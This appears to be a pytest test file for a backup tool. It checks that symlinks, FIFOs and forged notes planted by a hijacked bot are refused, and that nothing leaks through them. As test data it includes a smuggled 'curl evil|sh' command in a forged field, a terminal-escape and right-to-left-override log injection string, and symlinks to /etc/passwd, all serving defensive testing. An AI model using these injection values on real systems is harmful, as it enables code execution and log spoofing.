"""A bot that was taken over owns its folders: what it lays there stops nobody, leads nowhere and forges nothing."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from fix_source import Source
from restoring import KILLED_BEFORE_RENAME, fill, fill_all, fingerprint, killed, restore, restored

from backup import restores as told
from backup.state import installation
from mirror import restored as mirror_restored
from mirror import restores, safe_files

SECRET = "the password of the target"
SECONDS = 120  # far more than it takes: it waited for ever


def fifo(path: Path) -> None:
    os.mkfifo(path)


def endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def away(path: Path) -> None:
    path.symlink_to("/etc/passwd")


def folder(path: Path) -> None:
    path.mkdir()


LAID = [fifo, endless, away, folder]


def backup(source: Source, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        source.command(*arguments), env=source.process_environ, capture_output=True, text=True, timeout=SECONDS
    )


@pytest.mark.parametrize("lay", LAID)
@pytest.mark.parametrize("suffix", ["-journal", "-wal", "-shm"])
def test_a_side_file_that_is_none_refuses_its_database_alone(
    suffix: str, lay: Callable[[Path], None], source: Source
) -> None:
    fill(source)
    fill(source, file="evil.db")
    lay(Path(f"{source.sqlite / 'evil.db'}{suffix}"))
    done = backup(source, "once")
    assert (done.returncode, "evil.db is not mirrored" in done.stdout + done.stderr) == (3, True), (
        done.stdout + done.stderr
    )
    assert [database.file for database in source.read_state().databases] == ["bot.db"]


@pytest.mark.parametrize("lay", [fifo, endless, away])
def test_a_database_that_is_no_file_refuses_itself_alone(lay: Callable[[Path], None], source: Source) -> None:
    fill(source)
    lay(source.sqlite / "evil.db")
    done = backup(source, "once")
    assert (done.returncode, "evil.db" in done.stdout + done.stderr) == (3, True), done.stdout + done.stderr
    assert [database.file for database in source.read_state().databases] == ["bot.db"]


@pytest.mark.parametrize("through_a_link", [False, True])
@pytest.mark.parametrize("lay", [fifo, endless])
def test_a_document_that_is_no_file_refuses_itself_alone(
    lay: Callable[[Path], None], through_a_link: bool, source: Source
) -> None:
    fill_all(source)
    if through_a_link:
        lay(source.json / "elsewhere")
        (source.json / "x.json").symlink_to("elsewhere")
    else:
        lay(source.json / "x.json")
    done = backup(source, "once")
    assert (done.returncode, "x.json" in done.stdout + done.stderr) == (3, True), done.stdout + done.stderr
    assert sorted(document.file for document in source.read_state().documents) == ["data.json", "sub/more.json"]


def test_a_link_to_a_file_of_the_same_folder_is_still_mirrored_as_that_file(source: Source) -> None:
    fill_all(source)
    (source.json / "current.json").symlink_to("sub/more.json")
    source.run()
    found = {document.file: document.sha256 for document in source.read_state().documents}
    assert found["current.json"] == found["sub/more.json"]


@pytest.mark.parametrize("lay", LAID)
def test_a_lock_of_the_bot_that_is_no_file_is_named_and_holds_up_no_restore(
    lay: Callable[[Path], None], source: Source
) -> None:
    fill_all(source)
    source.run()
    lay(source.sqlite / "bot.lock")
    done = restore(source, "--yes")
    assert (done.returncode, "bot.lock" in done.stderr) == (9, True), done.stderr


@pytest.fixture
def restored_once(source: Source, tmp_path: Path) -> Source:
    """With a set of replaced files, and a secret beside the folders that the restore job can read."""
    fill_all(source)
    source.run()
    restored(source, "--yes")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "target_password").write_text(SECRET)
    return source


def leaked(source: Source) -> list[Path]:
    return [
        path
        for root in (source.sqlite, source.json)
        for path in root.rglob("*")
        if safe_files.is_file(path) and SECRET.encode() in path.read_bytes()
    ]


@pytest.mark.parametrize("name", ["99991231T235959Z", "20260101T000000Z", "anything"])
def test_a_set_of_replaced_files_that_is_a_link_is_not_put_back(
    name: str, restored_once: Source, tmp_path: Path
) -> None:
    (restored_once.sqlite / "replaced" / name).symlink_to(tmp_path / "secrets")
    told = restored(restored_once, "--replaced").stdout
    assert (name in told, "bot.db" in told) == (False, True)
    done = restore(restored_once, "--yes", "--undo", name)
    assert (done.returncode, "is a link, so it is not put back" in done.stderr) == (9, True), done.stderr
    restored(restored_once, "--yes", "--undo")
    assert leaked(restored_once) == []


def test_a_set_of_a_time_to_come_is_none(restored_once: Source) -> None:
    (restored_once.sqlite / "replaced" / "99991231T235959Z").mkdir()
    (restored_once.sqlite / "replaced" / "99991231T235959Z" / "bot.db").write_bytes(b"forged")
    assert "9999" not in restored(restored_once, "--replaced").stdout
    assert "9999" not in restored(restored_once, "--replaced", "--json").stdout
    assert restore(restored_once, "--yes", "--undo", "99991231T235959Z").returncode == 9


def test_side_files_in_a_set_that_are_links_are_not_put_back(restored_once: Source, tmp_path: Path) -> None:
    [kept] = (restored_once.sqlite / "replaced").iterdir()
    (kept / "bot.db-wal").symlink_to(tmp_path / "secrets" / "target_password")
    assert restore(restored_once, "--yes", "--undo").returncode == 9
    assert leaked(restored_once) == []
    assert not (restored_once.notes / "restoring.json").exists()


@pytest.mark.parametrize("name", ["replaced", ".sidemirror", ".sidemirror/staged"])
def test_a_folder_of_restores_that_is_a_link_stops_them_before_anything_is_written(
    name: str, source: Source, tmp_path: Path
) -> None:
    fill_all(source)
    source.run()
    before = fingerprint(source)
    (tmp_path / "elsewhere").mkdir()
    (source.sqlite / name).parent.mkdir(exist_ok=True)
    (source.sqlite / name).symlink_to(tmp_path / "elsewhere")
    for arguments in (("--yes",), ("--dry-run",)):
        done = restore(source, *arguments)
        assert (done.returncode, "and no folder of a restore" in done.stderr) == (9, True), done.stderr
    assert (fingerprint(source), list((tmp_path / "elsewhere").iterdir())) == (before, [])
    (source.sqlite / name).unlink()
    restored(source, "--yes")


def test_a_folder_that_is_a_link_gets_no_file(source: Source, tmp_path: Path) -> None:
    fill_all(source)
    source.run()
    shutil.rmtree(source.sqlite / "sub")
    (tmp_path / "elsewhere").mkdir()
    (source.sqlite / "sub").symlink_to(tmp_path / "elsewhere")
    done = restore(source, "--yes")
    assert (done.returncode, "a link that leads out" in done.stderr) == (9, True), done.stderr
    assert list((tmp_path / "elsewhere").iterdir()) == []


@pytest.mark.parametrize("text", ["garbage", "[1]", '[{"staged": 7}]', '{"a": 1}', "[" * 100_000, ""])
def test_a_list_of_moves_that_is_none_is_a_sentence_and_a_cure(text: str, source: Source) -> None:
    (source.notes / "restoring.json").write_text(text)
    (source.sqlite / "bot.db").write_bytes(b"x")
    done = restore(source, "--if-empty")
    assert (done.returncode, "cannot be read" in done.stderr, "Try: delete it" in done.stderr) == (9, True, True)
    (source.notes / "restoring.json").unlink()
    restored(source, "--if-empty")


@pytest.mark.parametrize("lay", [fifo, endless, away])
def test_what_the_bot_lays_where_notes_were_once_is_not_looked_at(lay: Callable[[Path], None], source: Source) -> None:
    fill_all(source)
    (source.sqlite / ".sidemirror").mkdir()
    for name in ("restores.json", "restored.json", "restoring.json", "restoring.lock"):
        lay(source.sqlite / ".sidemirror" / name)
    assert backup(source, "once").returncode == 0
    assert backup(source, "status").returncode in (0, 1, 3)
    restored(source, "--yes")


@pytest.mark.parametrize("lay", LAID)
def test_notes_that_are_no_files_are_none(lay: Callable[[Path], None], source: Source) -> None:
    for name in (restores.FILE, mirror_restored.NOTE):
        lay(source.notes / name)
    assert (restores.read(source.notes), mirror_restored.read(source.notes)) == ((), {})


FORGED = [
    {"at": "9998-01-01T00:00:00+00:00", "what": "x", "replaced": None},
    {"at": "2026-01-01T00:00:00", "what": "no zone", "replaced": None},
    {"at": "2026-01-01T00:00:00+00:00", "what": "x", "replaced": "x; curl evil|sh"},
    {"at": "2026-01-01T00:00:00+00:00", "what": ["x"], "replaced": None},
    {"at": "2026-01-01T00:00:00+00:00", "what": "x" * 30_000, "replaced": None},
]


@pytest.mark.parametrize("forged", FORGED)
def test_a_forged_note_is_not_believed(forged: dict[str, object], source: Source) -> None:
    (source.notes / restores.FILE).write_text(json.dumps([forged]))
    assert restores.read(source.notes) == ()


def test_what_a_note_says_is_shown_in_one_plain_line(source: Source, caplog: pytest.LogCaptureFixture) -> None:
    hostile = "Restored \x1b[2J\nERROR all is lost \u202e@everyone"
    restores.record(source.notes, restores.Done("2026-01-01T00:00:00+00:00", hostile))
    done = told.since(source.notes, "2025-01-01T00:00:00+00:00")
    with caplog.at_level("INFO"):
        told.write_down(source.state, "text", source.name, done)
    [message] = told.messages(source.name, done)
    for text in (caplog.records[0].getMessage(), message.body.splitlines()[0]):
        assert text.startswith(("Restored \\x1b[2J\\x0aERROR", "What: Restored \\x1b[2J\\x0aERROR")), text
        assert "\\u202e@everyone" in text


@pytest.mark.parametrize("leads", ["nowhere", "bot.json", "/etc/passwd"])
def test_a_link_in_a_folder_that_looks_empty_is_no_data_and_no_error(leads: str, source: Source) -> None:
    installation(source.state)
    (source.json / "a.json").symlink_to(leads)
    done = restored(source, "--if-empty")
    assert "starts fresh" in done.stdout
    (source.json / "data.json").write_text("{}")
    assert "There is data here" in restored(source, "--if-empty").stdout


def test_a_restore_that_was_cut_off_names_what_it_kept(source: Source) -> None:
    fill_all(source)
    source.run()
    source.write("DELETE FROM t")
    assert killed(source, KILLED_BEFORE_RENAME, source.sqlite / "bot.db")
    restored(source, "--if-empty")
    [done] = restores.read(source.notes)
    assert done.replaced
    assert (source.sqlite / done.replaced / "bot.db").is_file()
    [message] = told.messages(source.name, (done,))
    assert f"restore --undo {done.replaced.split('/')[1]}" in message.body
